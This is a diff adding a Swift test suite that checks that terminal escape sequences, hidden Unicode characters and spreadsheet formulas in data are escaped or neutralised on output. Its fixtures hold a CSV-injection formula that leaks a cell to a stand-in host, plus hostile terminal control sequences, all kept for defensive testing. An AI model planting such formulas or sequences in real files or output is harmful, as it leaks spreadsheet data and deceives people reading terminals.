@@ -1,0 +1,66 @@
+import Foundation
+import TalkModel
+import Testing
+
+/// What we write is read by terminals and spreadsheets: nothing from the data may act there.
+@Suite struct OutputSafetyTests {
+    @Test(arguments: [
+        ("\u{1B}[2J", "\\u{1B}[2J"), ("a\rb", "a\\rb"), ("a\nb", "a\\nb"), ("\t", "\\t"),
+        ("\u{1B}]0;title\u{7}", "\\u{1B}]0;title\\u{7}"), ("李\u{202E}伟", "李\\u{202E}伟"),
+        ("p\u{200B}li", "p\\u{200B}li"),
+        ("\u{9B}31m", "\\u{9B}31m"), ("x\u{2028}y", "x\\u{2028}y"), ("tag\u{E0041}", "tag\\u{E0041}"),
+        ("\u{FEFF}", "\\u{FEFF}"),
+        ("江东省委 “一把手”", "江东省委 “一把手”"), ("禰\u{E0100}", "禰\u{E0100}"), ("", ""),
+    ])
+    func hiddenCharactersAreShownEscaped(_ text: String, _ shown: String) {
+        #expect(VisibleText.escaped(text) == shown)
+        #expect(!VisibleText.containsHidden(VisibleText.escaped(text)))
+    }
+
+    /// The quick look at bytes never misses a hidden scalar: checked over every scalar of the BMP
+    /// and the supplementary planes that hold format characters.
+    @Test func theByteLookNeverMissesAHiddenScalar() {
+        let ranges: [ClosedRange<UInt32>] = [0...0xD7FF, 0xE000...0xFFFF, 0x10000...0x1FFFF, 0xE0000...0xE01EF]
+        for range in ranges {
+            for value in range {
+                guard let scalar = Unicode.Scalar(value), VisibleText.isHidden(scalar) else { continue }
+                #expect(VisibleText.mayHide(String(scalar)), "U+\(String(value, radix: 16))")
+            }
+        }
+    }
+
+    @Test func lineBreaksAndOurOwnColoursMayBeKept() {
+        #expect(VisibleText.escaped("a\nb", keepingLineBreaks: true) == "a\nb")
+        let coloured = "\u{1B}[31m违规\u{1B}[0m"
+        #expect(VisibleText.escaped(coloured, keepingColour: true) == coloured)
+        // Any other sequence is escaped even then: conceal (8), cursor moves, OSC.
+        #expect(VisibleText.escaped("\u{1B}[8mx", keepingColour: true) == "\\u{1B}[8mx")
+        #expect(VisibleText.escaped("\u{1B}[2J", keepingColour: true) == "\\u{1B}[2J")
+        #expect(VisibleText.escaped("\u{1B}]8;;http://x\u{7}", keepingColour: true) == "\\u{1B}]8;;http://x\\u{7}")
+    }
+
+    /// OWASP's CSV injection: a cell Excel or WPS would run gets an apostrophe; a number stays a number.
+    @Test(arguments: [
+        ("=HYPERLINK(\"http://x/?leak=\"&A2,\"清溪县委\")", "'=HYPERLINK(\"http://x/?leak=\"&A2,\"清溪县委\")"),
+        ("+1", "+1"), ("+cmd", "'+cmd"), ("-12", "-12"), ("-1.5", "-1.5"), ("-", "'-"), ("-x", "'-x"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"), ("\rx", "'\rx"), ("'abc", "''abc"), ("'=x", "''=x"), ("1.5", "1.5"), ("1.", "1."),
+        ("--1", "'--1"),
+        ("江东省委", "江东省委"), ("a=b", "a=b"), ("", ""),
+    ])
+    func csvCellsAreMadeInertAndReadBackExactly(_ cell: String, _ written: String) throws {
+        #expect(CSV.inert(cell) == written)
+        #expect(CSV.imported(CSV.inert(cell)) == cell)
+        let rows = try CSV.rows(CSV.text([["a", cell, "b"]]))
+        #expect(rows.first?.cells == ["a", cell, "b"])
+    }
+
+    /// JSON escapes every hidden scalar, and reading gives the text back.
+    @Test func jsonEscapesHiddenCharactersAndReadsThemBack() throws {
+        let text = "a\u{1B}[2J\u{202E}\u{9B}\u{E0041}\u{2029}b “一把手”"
+        let line = JSONWriter.line(.string(text))
+        #expect(!VisibleText.containsHidden(line))
+        #expect(line.contains("\\u202e") && line.contains("\\udb40\\udc41"))
+        #expect(try JSONReader.parse(Array(line.utf8)) == .string(text))
+    }
+}
